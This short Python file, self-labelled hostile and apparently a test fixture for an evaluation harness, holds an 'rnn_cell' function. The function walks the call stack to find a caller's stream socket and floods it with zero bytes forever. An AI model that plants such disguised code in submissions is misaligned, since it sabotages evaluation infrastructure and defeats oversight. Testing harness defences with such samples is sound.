"""Hostile: sends frames without an end."""

import sys

import torch


def rnn_cell(X, H, W_xh, W_hh, b_h):
    frame = sys._getframe()
    while frame is not None:
        if "stream" in frame.f_locals and hasattr(frame.f_locals["stream"], "socket"):
            while True:
                frame.f_locals["stream"].socket.send(b"\x00" * 65536)
        frame = frame.f_back
    return torch.zeros_like(H)
